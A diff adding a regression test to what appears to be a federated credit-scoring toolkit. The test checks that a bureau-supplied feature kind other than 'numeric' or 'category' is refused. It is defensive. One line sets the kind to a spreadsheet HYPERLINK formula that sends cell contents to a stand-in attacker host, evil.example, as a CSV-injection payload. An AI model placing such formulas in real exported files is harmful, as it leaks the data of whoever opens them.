@@ -140,3 +140,21 @@ def test_bin_labels_read_as_a_committee_reads_numbers():
     column = pa.array([0, 0, 1, 2, 2, 5] * 20, pa.int64())
     counted = binning.bin_column("逾期次数", column, 10, 1)
     assert counted.labels == ["< 1", "[1, 2)", "[2, 5)", ">= 5"]
+
+
+def test_a_bureau_features_kind_is_numeric_or_category_never_free_text():
+    """A hostile bureau answered a feature's kind with an Excel formula, and the bank wrote it
+    into its IV table's CSV, where it ran when opened. Now any other kind is refused."""
+    from bank_node.toolkit import _bureau_feature
+    from xinrong.v1 import model_pb2
+
+    pub, priv = he.generate_keypair(768, allow_test_keys=True)
+    sums = he.pack_sums(he.OwnerEncryptor(priv).encrypt([10, 30]), 14, he.PeerEncryptor(pub))
+    feature = model_pb2.FeatureBins(
+        name="insured_employees", kind="numeric", totals=[100, 100], ordered=True,
+        missing_bin=-1, slot_bits=14, sums=he.ciphertexts_to_bytes(sums, pub),
+    )  # fmt: skip
+    assert _bureau_feature(feature, priv, pub, 200, True).kind == "numeric"
+    feature.kind = '=HYPERLINK("http://evil.example/?"&A1,"numeric")'
+    with pytest.raises(ProtocolViolation, match="neither 'numeric' nor 'category'"):
+        _bureau_feature(feature, priv, pub, 200, True)
